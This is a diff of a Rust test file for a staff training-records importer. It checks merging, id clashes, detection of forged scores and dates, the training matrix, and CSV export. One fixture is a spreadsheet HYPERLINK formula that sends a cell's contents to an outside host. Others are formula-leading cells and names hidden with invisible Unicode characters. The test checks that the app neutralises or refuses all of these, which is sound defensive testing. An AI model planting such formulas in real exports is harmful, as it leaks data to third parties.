@@ -1,116 +1,85 @@
 //! Staff records for the DSL, natively: importing many files where a bad one does not stop
-//! the rest, merging the same record, re-scoring that catches an edited score, the matrix
-//! and its filters, coverage maths, and CSV quoting.
+//! the rest, merging the same record, a record id held under another name as a conflict the
+//! DSL settles, only verified attempts counting, the matrix and its filters, coverage maths,
+//! and CSV that is quoted and safe to open in a spreadsheet. Records are made the way the app
+//! makes them: a profile takes its quizzes, then exports.
 #![cfg(not(target_arch = "wasm32"))]
 
-use chrono::{NaiveDate, NaiveDateTime};
+mod common;
 
-use online_safety_workbench::domain::content::{course, Role};
+use chrono::NaiveDate;
+
+use common::{at, course, day, keys, pass_all, person, take};
+use online_safety_workbench::domain::content::Role;
 use online_safety_workbench::domain::envelope;
-use online_safety_workbench::domain::quiz::{self, Attempt};
 use online_safety_workbench::domain::staff::{
-    coverage, matrix, select, to_csv, Cell, Doubt, Outcome, Overall, Show, SortBy, StaffRecords,
+    coverage, matrix, neutralise, select, to_csv, Cell, Outcome, Overall, RecordFile, Settle, Show,
+    SortBy, StaffRecords, CSV_NOTE,
 };
-use online_safety_workbench::domain::training::{Person, Profile, Track, TrainingRecord};
+use online_safety_workbench::domain::training::{Profile, Track, TrainingRecord};
+use online_safety_workbench::domain::verify::{Problem, Verdict};
 
-fn d(y: i32, m: u32, day: u32) -> NaiveDate {
-    NaiveDate::from_ymd_opt(y, m, day).unwrap()
+/// The record a person exports after passing everything their role needs on `on`.
+fn record(id: &str, name: &str, role: Role, on: NaiveDate, exported: NaiveDate) -> TrainingRecord {
+    let mut profile = Profile::new(id.into(), person(name, role, Track::Induction), at(on));
+    pass_all(&mut profile, on);
+    TrainingRecord::of(&profile, course(), exported.and_hms_opt(18, 0, 0).unwrap())
 }
 
-fn at(date: NaiveDate) -> NaiveDateTime {
-    date.and_hms_opt(10, 0, 0).unwrap()
-}
-
-/// An attempt at a module answered all right (or all wrong), submitted on `on`.
-fn attempt(module_id: &str, id: &str, right: bool, on: NaiveDate) -> Attempt {
-    let course = course();
-    let module = course.module(module_id).unwrap();
-    let mut a = quiz::start(course, module, 42, id.into(), at(on));
-    for drawn in a.questions.clone() {
-        let q = module
-            .questions
-            .iter()
-            .find(|q| q.id == drawn.question_id)
-            .unwrap();
-        let ids: Vec<String> = if right {
-            q.correct_ids().into_iter().map(str::to_owned).collect()
-        } else {
-            vec![q.options.iter().find(|o| !o.correct).unwrap().id.clone()]
-        };
-        for id in ids {
-            a.choose(q, &id);
-        }
-    }
-    a.submit(course, at(on)).unwrap();
-    a
-}
-
-/// A record file for someone who passed every module their role needs on `on`.
-fn record(id: &str, name: &str, role: Role, on: NaiveDate, exported: NaiveDate) -> String {
-    let person = Person {
+/// The record's file, as the export writes it.
+fn file(name: &str, record: &TrainingRecord) -> RecordFile {
+    let text = envelope::to_json(record, record.exported_at, None);
+    RecordFile {
         name: name.into(),
-        role,
-        start_date: d(2025, 9, 1),
-        track: Track::Induction,
-    };
-    let mut profile = Profile::new(id.into(), person, at(on));
-    let required: Vec<String> = profile
-        .required(course())
-        .iter()
-        .map(|m| m.id.clone())
-        .collect();
-    for (i, m) in required.iter().enumerate() {
-        profile
-            .attempts
-            .push(attempt(m, &format!("{id}-a{i}"), true, on));
+        sha256: format!("sha-of-{name}-{}", text.len()),
+        text,
     }
-    let record = TrainingRecord::of(&profile, course(), at(exported));
-    envelope::to_json(&record, at(exported), None)
 }
 
-fn files(list: &[(&str, String)]) -> Vec<(String, String)> {
-    list.iter()
-        .map(|(n, t)| ((*n).to_owned(), t.clone()))
+fn import(records: &mut StaffRecords, files: &[RecordFile], on: NaiveDate) -> Vec<Outcome> {
+    records
+        .import(files, keys(), at(on))
+        .into_iter()
+        .map(|r| r.outcome)
         .collect()
 }
 
 #[test]
 fn a_bad_file_is_listed_and_the_others_still_import() {
     let mut records = StaffRecords::default();
-    let today = d(2026, 11, 25);
-    let results = records.import(
-        &files(&[
-            (
-                "ann.json",
-                record(
-                    "r-ann",
-                    "Ann Able",
-                    Role::Teaching,
-                    d(2026, 10, 1),
-                    d(2026, 10, 1),
-                ),
-            ),
-            ("broken.json", "{ not json".into()),
-            (
-                "bob.json",
-                record(
-                    "r-bob",
-                    "Bob Baker",
-                    Role::Support,
-                    d(2026, 10, 2),
-                    d(2026, 10, 2),
-                ),
-            ),
-        ]),
-        at(today),
+    let today = day(2026, 12, 1);
+    let ann = record(
+        "r-ann",
+        "Ann Able",
+        Role::Teaching,
+        day(2026, 11, 26),
+        today,
     );
-    assert!(matches!(results[0].outcome, Outcome::Added { .. }));
+    let bob = record(
+        "r-bob",
+        "Bob Baker",
+        Role::Support,
+        day(2026, 11, 27),
+        today,
+    );
+    let broken = RecordFile {
+        name: "broken.json".into(),
+        text: "{ not json".into(),
+        sha256: "x".into(),
+    };
+    let results = import(
+        &mut records,
+        &[file("ann.json", &ann), broken, file("bob.json", &bob)],
+        today,
+    );
+    assert!(matches!(results[0], Outcome::Added { .. }));
     assert!(
-        matches!(&results[1].outcome, Outcome::Failed(e) if e.to_string().starts_with("This is not a JSON file"))
+        matches!(&results[1], Outcome::Failed(e) if e.to_string().starts_with("This is not a JSON file"))
     );
-    assert!(matches!(results[2].outcome, Outcome::Added { .. }));
+    assert!(matches!(results[2], Outcome::Added { .. }));
     assert_eq!(records.people.len(), 2);
     assert_eq!(records.updated_at, Some(at(today)));
+    assert_eq!(records.people[0].files, [file("ann.json", &ann).sha256]);
 }
 
 #[test]
@@ -120,91 +89,102 @@ fn the_same_record_twice_merges_keeping_each_attempt_once() {
         "r-ann",
         "Ann Able",
         Role::Governor,
-        d(2026, 10, 1),
-        d(2026, 10, 1),
+        day(2026, 11, 26),
+        day(2026, 11, 26),
     );
-    records.import(&files(&[("a.json", first.clone())]), at(d(2026, 10, 2)));
-    let results = records.import(&files(&[("again.json", first)]), at(d(2026, 10, 3)));
-    assert!(matches!(results[0].outcome, Outcome::AlreadyHere { .. }));
+    import(&mut records, &[file("a.json", &first)], day(2026, 11, 27));
+    let again = import(&mut records, &[file("a.json", &first)], day(2026, 11, 28));
+    assert!(matches!(again[0], Outcome::AlreadyHere { .. }));
     assert_eq!(
         records.updated_at,
-        Some(at(d(2026, 10, 2))),
+        Some(at(day(2026, 11, 27))),
         "nothing changed"
     );
 
-    // A newer export of the same profile with one more attempt and a corrected name.
-    let mut newer: TrainingRecord = envelope::unwrap(&record(
+    // A newer export of the same profile with one more attempt and a corrected spelling.
+    let mut newer = record(
         "r-ann",
-        "Ann Able-Smith",
+        "Ann  able",
         Role::Governor,
-        d(2026, 10, 1),
-        d(2026, 11, 1),
-    ))
-    .unwrap();
+        day(2026, 11, 26),
+        day(2026, 12, 10),
+    );
     newer
         .attempts
-        .push(attempt("four-cs", "r-ann-extra", false, d(2026, 10, 20)));
-    let text = envelope::to_json(&newer, at(d(2026, 11, 1)), None);
+        .push(take("four-cs", 99, "r-ann-extra", at(day(2026, 12, 9)), 8));
     let before = records.people[0].attempts.len();
-    let results = records.import(&files(&[("newer.json", text)]), at(d(2026, 11, 2)));
+    let results = import(
+        &mut records,
+        &[file("newer.json", &newer)],
+        day(2026, 12, 11),
+    );
     assert_eq!(
-        results[0].outcome,
+        results[0],
         Outcome::Merged {
-            name: "Ann Able-Smith".into(),
+            name: "Ann Able".into(),
             new_attempts: 1
         }
     );
     assert_eq!(records.people.len(), 1);
     assert_eq!(records.people[0].attempts.len(), before + 1);
-    assert_eq!(records.people[0].person.name, "Ann Able-Smith");
+    assert_eq!(records.people[0].person.name, "Ann  able");
+    assert_eq!(records.people[0].files.len(), 2);
 }
 
 #[test]
-fn a_name_clash_with_different_ids_is_shown_not_merged() {
+fn a_record_id_belongs_to_one_person_and_the_dsl_settles_a_clash() {
     let mut records = StaffRecords::default();
-    records.import(
-        &files(&[
-            (
-                "1.json",
-                record(
-                    "r-1",
-                    "Sam Lee",
-                    Role::Teaching,
-                    d(2026, 10, 1),
-                    d(2026, 10, 1),
-                ),
-            ),
-            (
-                "2.json",
-                record(
-                    "r-2",
-                    "sam  lee",
-                    Role::Support,
-                    d(2026, 10, 1),
-                    d(2026, 10, 1),
-                ),
-            ),
-        ]),
-        at(d(2026, 10, 2)),
+    let today = day(2026, 12, 1);
+    let ann = record("r-1", "Ann Able", Role::Teaching, day(2026, 11, 26), today);
+    import(&mut records, &[file("ann.json", &ann)], today);
+    // Someone else's export reusing Ann's record id (copied from her certificate).
+    let cal = record(
+        "r-1",
+        "Cal Cheat",
+        Role::Teaching,
+        day(2026, 11, 27),
+        day(2026, 11, 28),
     );
-    assert_eq!(records.people.len(), 2);
-    assert_eq!(records.name_clashes(), ["Sam Lee", "sam  lee"]);
+    let results = import(&mut records, &[file("cal.json", &cal)], today);
+    let Outcome::Conflict(conflict) = &results[0] else {
+        panic!("expected a conflict, got {results:?}");
+    };
+    assert_eq!(conflict.held.name, "Ann Able");
+    assert_eq!(conflict.incoming.person.name, "Cal Cheat");
+    assert_eq!(records.people.len(), 1, "nothing applied yet");
+    assert_eq!(records.people[0].person.name, "Ann Able");
+    // The same id under another role is a clash too.
+    let mut ann_as_gov = ann.clone();
+    ann_as_gov.person.role = Role::Governor;
+    assert!(matches!(
+        import(&mut records, &[file("g.json", &ann_as_gov)], today)[0],
+        Outcome::Conflict(_)
+    ));
+
+    let mut keep = records.clone();
+    keep.settle((**conflict).clone(), Settle::Keep, at(today));
+    assert_eq!(keep, records);
+    let mut replace = records.clone();
+    replace.settle((**conflict).clone(), Settle::Replace, at(today));
+    assert_eq!(replace.people.len(), 1);
+    assert_eq!(replace.people[0].person.name, "Cal Cheat");
+    let mut both = records.clone();
+    both.settle((**conflict).clone(), Settle::KeepBoth, at(today));
+    assert_eq!(
+        both.people
+            .iter()
+            .map(|p| (p.record_id.as_str(), p.person.name.as_str()))
+            .collect::<Vec<_>>(),
+        [("r-1", "Ann Able"), ("r-1 (2)", "Cal Cheat")]
+    );
 }
 
 #[test]
-fn an_edited_score_is_caught_and_not_counted_as_passed() {
-    let course = course();
+fn an_edited_score_is_altered_and_not_counted() {
     // A governor who failed one module, then edited the file to say they passed it.
-    let mut rec: TrainingRecord = envelope::unwrap(&record(
-        "r-gov",
-        "Gill Gov",
-        Role::Governor,
-        d(2026, 10, 1),
-        d(2026, 10, 1),
-    ))
-    .unwrap();
-    let fail = attempt("governors", "r-gov-fail", false, d(2026, 10, 2));
-    let mut edited = fail.clone();
+    let on = day(2026, 11, 26);
+    let mut rec = record("r-gov", "Gill Gov", Role::Governor, on, on);
+    let mut edited = take("governors", 7, "r-gov-fail", at(on), 8);
     let mut score = edited.score.unwrap();
     score.correct = score.total;
     score.percent = 100;
@@ -212,15 +192,15 @@ fn an_edited_score_is_caught_and_not_counted_as_passed() {
     edited.score = Some(score);
     rec.attempts.retain(|a| a.module_id != "governors");
     rec.attempts.push(edited);
-    let text = envelope::to_json(&rec, at(d(2026, 10, 3)), None);
     let mut records = StaffRecords::default();
-    records.import(&files(&[("gill.json", text)]), at(d(2026, 10, 4)));
-    let rows = matrix(course, &records, d(2026, 11, 25));
+    import(&mut records, &[file("gill.json", &rec)], on);
+    let rows = matrix(course(), &records, day(2026, 12, 1));
     let row = &rows[0];
     assert_eq!(row.doubts.len(), 1);
+    assert_eq!(row.doubts[0].module_id, "governors");
     assert!(matches!(
-        row.doubts[0].1,
-        Doubt::Altered {
+        row.doubts[0].verdict,
+        Verdict::Altered {
             stated: 100,
             actual: 0
         }
@@ -230,7 +210,7 @@ fn an_edited_score_is_caught_and_not_counted_as_passed() {
         Overall::Trained,
         "an altered pass does not count"
     );
-    let col = course
+    let col = course()
         .modules
         .iter()
         .position(|m| m.id == "governors")
@@ -240,50 +220,114 @@ fn an_edited_score_is_caught_and_not_counted_as_passed() {
 }
 
 #[test]
+fn a_hand_made_record_answering_one_question_per_module_is_unverifiable() {
+    // T1: the answer key is in the app, so a record can answer just one question right.
+    let on = day(2026, 11, 26);
+    let mut rec = record("r-h", "Hana Hand", Role::Volunteer, on, on);
+    for a in &mut rec.attempts {
+        a.questions.truncate(1);
+        let mut score = a.score.unwrap();
+        score.correct = 1;
+        score.total = 1;
+        a.score = Some(score);
+    }
+    let mut records = StaffRecords::default();
+    import(&mut records, &[file("h.json", &rec)], on);
+    let rows = matrix(course(), &records, day(2026, 12, 1));
+    assert_eq!(rows[0].overall, Overall::NotStarted);
+    assert!(rows[0]
+        .doubts
+        .iter()
+        .all(|d| d.verdict == Verdict::Unverifiable(Problem::NotTheDraw)));
+    assert_eq!(coverage(&rows).trained, 0);
+}
+
+#[test]
+fn moved_dates_are_unverifiable() {
+    let on = day(2026, 11, 26);
+    // Passed before the course version existed.
+    let mut early = record("r-e", "Eve Early", Role::Volunteer, on, on);
+    for a in &mut early.attempts {
+        a.started_at -= chrono::Duration::days(400);
+        a.submitted_at = Some(a.started_at + common::TAKES);
+    }
+    // Exported "next year" to stretch the valid-until date.
+    let mut late = record("r-l", "Lou Late", Role::Volunteer, on, on);
+    for a in &mut late.attempts {
+        a.submitted_at = Some(at(day(2027, 11, 1)));
+    }
+    late.exported_at = at(day(2027, 11, 2));
+    let mut records = StaffRecords::default();
+    import(
+        &mut records,
+        &[file("e.json", &early), file("l.json", &late)],
+        day(2026, 12, 1),
+    );
+    let rows = matrix(course(), &records, day(2026, 12, 1));
+    for row in &rows {
+        assert_eq!(row.overall, Overall::NotStarted, "{}", row.name);
+        assert!(row.doubts.iter().all(|d| matches!(
+            d.verdict,
+            Verdict::Unverifiable(Problem::ImpossibleDates(_))
+        )));
+    }
+    // A future export date does not freeze the entry: a genuine later export still updates it.
+    let mut genuine = record("r-l", "Lou  late", Role::Volunteer, on, day(2026, 12, 2));
+    genuine.attempts.truncate(1);
+    import(&mut records, &[file("l2.json", &genuine)], day(2026, 12, 2));
+    assert_eq!(records.people[1].person.name, "Lou  late");
+}
+
+#[test]
 fn the_matrix_shows_passed_due_soon_expired_and_not_required() {
     let course = course();
-    let today = d(2026, 11, 25);
+    let today = day(2027, 11, 25);
     let mut records = StaffRecords::default();
-    records.import(
-        &files(&[
-            (
+    import(
+        &mut records,
+        &[
+            file(
                 "fresh.json",
-                record(
+                &record(
                     "r-a",
                     "Amy Fresh",
                     Role::Teaching,
-                    d(2026, 10, 1),
-                    d(2026, 10, 1),
+                    day(2027, 10, 1),
+                    day(2027, 10, 1),
                 ),
             ),
-            (
+            file(
                 "soon.json",
-                record(
+                &record(
                     "r-b",
                     "Ben Soon",
                     Role::Teaching,
-                    d(2025, 12, 10),
-                    d(2025, 12, 10),
+                    day(2026, 12, 10),
+                    day(2026, 12, 10),
                 ),
             ),
-            (
+            file(
                 "old.json",
-                record(
+                &record(
                     "r-c",
                     "Cat Old",
                     Role::Volunteer,
-                    d(2025, 11, 1),
-                    d(2025, 11, 1),
+                    day(2026, 11, 25),
+                    day(2026, 11, 25),
                 ),
             ),
-        ]),
-        at(today),
+        ],
+        today,
     );
     let rows = matrix(course, &records, today);
     assert_eq!(
         rows.iter().map(|r| r.overall).collect::<Vec<_>>(),
         [Overall::Trained, Overall::DueSoon, Overall::Overdue]
     );
+    assert!(rows
+        .iter()
+        .all(|r| r.doubts.is_empty() && r.fast.is_empty()));
+    assert_eq!(rows[0].track, Track::Induction);
     let dsl_only = course
         .modules
         .iter()
@@ -319,36 +363,80 @@ fn the_matrix_shows_passed_due_soon_expired_and_not_required() {
 }
 
 #[test]
-fn csv_quotes_names_with_commas_and_quotes() {
-    let course = course();
+fn a_quiz_finished_implausibly_fast_is_flagged_and_still_counted() {
+    let on = day(2026, 11, 26);
+    let mut rec = record("r-f", "Fay Fast", Role::Volunteer, on, on);
+    rec.attempts[0].submitted_at = Some(rec.attempts[0].started_at + chrono::Duration::seconds(20));
     let mut records = StaffRecords::default();
-    records.import(
-        &files(&[(
-            "x.json",
-            record(
-                "r-x",
-                "O'Neil, \"Dee\"",
-                Role::Support,
-                d(2026, 10, 1),
-                d(2026, 10, 1),
+    import(&mut records, &[file("f.json", &rec)], on);
+    let rows = matrix(course(), &records, day(2026, 12, 1));
+    assert_eq!(rows[0].overall, Overall::Trained);
+    assert_eq!(rows[0].fast, [rec.attempts[0].module_id.clone()]);
+}
+
+#[test]
+fn csv_quotes_names_and_never_runs_a_formula() {
+    let course = course();
+    let on = day(2026, 11, 26);
+    let mut records = StaffRecords::default();
+    import(
+        &mut records,
+        &[
+            file(
+                "x.json",
+                &record("r-x", "O'Neil, \"Dee\"", Role::Support, on, on),
             ),
-        )]),
-        at(d(2026, 10, 2)),
+            file(
+                "y.json",
+                &record(
+                    "r-y",
+                    "=HYPERLINK(\"https://x/?\"&A2,\"Open\")",
+                    Role::Support,
+                    on,
+                    on,
+                ),
+            ),
+        ],
+        on,
     );
-    let csv = to_csv(course, &matrix(course, &records, d(2026, 11, 25)));
-    let mut lines = csv.lines();
-    let header = lines.next().unwrap();
-    assert!(header.starts_with("Name,Role,Overall,Valid until,"));
-    let row = lines.next().unwrap();
-    assert!(
-        row.starts_with("\"O'Neil, \"\"Dee\"\"\",Support staff,Trained,2027-10-01,"),
-        "{row}"
-    );
-    // Reads back as the same fields.
-    let mut reader = csv::Reader::from_reader(csv.as_bytes());
-    let first = reader.records().next().unwrap().unwrap();
-    assert_eq!(&first[0], "O'Neil, \"Dee\"");
-    assert_eq!(first.len(), 4 + course.modules.len() + 1);
+    let csv = to_csv(course, &matrix(course, &records, day(2026, 12, 1)));
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(csv.as_bytes());
+    let lines: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(&lines[0][0], CSV_NOTE);
+    assert!(lines[1]
+        .iter()
+        .take(5)
+        .eq(["Name", "Role", "Track", "Overall", "Valid until"]));
+    assert_eq!(&lines[2][0], "O'Neil, \"Dee\"");
+    assert!(lines[2].iter().skip(1).take(4).eq([
+        "Support staff",
+        "Induction",
+        "Trained",
+        "2027-11-26"
+    ]));
+    assert_eq!(&lines[3][0], "'=HYPERLINK(\"https://x/?\"&A2,\"Open\")");
+    assert_eq!(lines[2].len(), 5 + course.modules.len() + 2);
+    for cell in ["=1+1", "+44", "-3", "@SUM(A1)", "\tx", "\rx"] {
+        assert!(neutralise(cell).starts_with('\''), "{cell:?}");
+    }
+    assert_eq!(neutralise("Ann"), "Ann");
+}
+
+#[test]
+fn names_with_invisible_or_direction_changing_characters_are_refused() {
+    let on = day(2026, 11, 26);
+    for name in ["Ann\u{202E}elbA", "Ann\u{200B}Able", "Ann\u{2066}Able"] {
+        let rec = record("r-z", name, Role::Support, on, on);
+        let mut records = StaffRecords::default();
+        let results = import(&mut records, &[file("z.json", &rec)], on);
+        assert!(
+            matches!(&results[0], Outcome::Failed(e) if e.to_string().contains("invisible or direction-changing")),
+            "{name:?}: {results:?}"
+        );
+    }
 }
 
 #[test]
